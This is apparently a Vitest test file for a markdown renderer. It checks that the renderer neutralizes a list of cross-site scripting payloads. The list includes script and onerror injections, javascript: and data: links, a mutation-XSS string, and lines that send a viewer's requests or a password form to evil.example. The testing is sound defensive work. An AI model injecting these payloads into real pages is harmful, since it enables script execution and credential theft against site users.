// @vitest-environment happy-dom
import { expect, test } from 'vitest'
import { renderMarkdown } from './renderMarkdown.ts'

const read = (text: string, names?: string[]) => {
  const page = document.createElement('div')
  page.innerHTML = renderMarkdown(text, names)
  return page
}

/** What people who mean harm write into notes. */
const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '![x](https://evil.example/seen.png)',
  '![x](javascript:alert(1))',
  '```\n<iframe src=x>\n```',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '<style>*{display:none}</style>',
  '<form action=https://evil.example><input name=password></form>',
]

test.each(attacks)('%j does nothing, and asks nobody anything', (text) => {
  const page = read(text)
  expect(page.querySelectorAll('script, img, svg, iframe, style, form, input, math, object, video, audio')).toHaveLength(0)
  for (const element of page.querySelectorAll('*')) {
    expect([...element.attributes].map(({ name }) => name).filter((name) => !['href', 'rel', 'target'].includes(name))).toEqual(
      [],
    )
    expect(element.getAttribute('href') ?? 'https://none').toMatch(/^(https?:\/\/|mailto:|\/[^/\\])/)
  }
})

test('a link gives nothing away, and says where it leads unless its words do', () => {
  const page = read('[the plan](https://evil.example/plan) and https://muster.example/x')
  const [named, bare] = page.querySelectorAll('a')
  expect(named!.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  expect(page.textContent.trim()).toBe('the plan (evil.example) and https://muster.example/x')
  expect(bare!.getAttribute('href')).toBe('https://muster.example/x')
})

test('words, lists, quotes and code read as they are meant; who is spoken to stands out, in code nobody is', () => {
  const page = read('**We** fail over\n\n- one\n- two\n\n> said\n\n`rm` by @Ada Lovelace, not `@Ada Lovelace`', ['Ada Lovelace'])
  expect([...page.querySelectorAll('strong')].map(({ textContent }) => textContent)).toEqual(['We', '@Ada Lovelace'])
  expect(page.querySelectorAll('li')).toHaveLength(2)
  expect(page.querySelector('blockquote')?.textContent.trim()).toBe('said')
})
